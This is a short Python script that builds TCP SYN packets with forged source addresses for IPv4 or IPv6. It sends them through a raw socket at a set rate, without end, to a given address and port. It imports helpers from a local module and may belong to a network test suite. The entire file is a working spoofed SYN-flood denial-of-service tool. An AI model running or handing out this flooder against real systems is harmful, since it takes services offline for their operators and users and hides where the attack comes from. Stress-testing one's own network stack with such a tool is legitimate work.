#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""A SYN flood from sources that do not exist, at a steady pace, until killed:
flood.py PREFIX ADDRESS PORT PACKETS_PER_SECOND, sources are PREFIX + 1 ... 250
with ever new ports.
"""
import itertools
import socket
import struct
import sys
import time

from peer import checksum, family


def syn(src, sport, dst, dport):
    f = family(src)
    source, target = (socket.inet_pton(f, a) for a in (src, dst))
    l4 = struct.pack("!HHIIBBHHH", sport, dport, 1000, 0, 5 << 4, 2, 64240, 0,
                     0)
    number, size = socket.IPPROTO_TCP, len(l4)
    if f == socket.AF_INET:
        pseudo = source + target + struct.pack("!BBH", 0, number, size)
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + size, 1, 0, 64, number, 0)
    else:
        pseudo = source + target + struct.pack("!IHBB", size, 0, 0, number)
        ip = struct.pack("!IHBB", 6 << 28, size, number, 64)
    value = struct.pack("!H", checksum(pseudo + l4) or 0xFFFF)
    return ip + source + target + l4[:16] + value + l4[18:]


def main():
    prefix, address, port, pace = sys.argv[1:]
    packets = [
        syn(f"{prefix}{host}", sport, address, int(port))
        for sport in range(1024, 1032) for host in range(1, 251)
    ]
    pause = 0.01
    with socket.socket(family(address), socket.SOCK_RAW,
                       socket.IPPROTO_RAW) as s:
        print("ready", flush=True)
        for n, packet in enumerate(itertools.cycle(packets)):
            s.sendto(packet, (address, 0))
            if n % (int(pace) * pause) == 0:
                time.sleep(pause)


main()
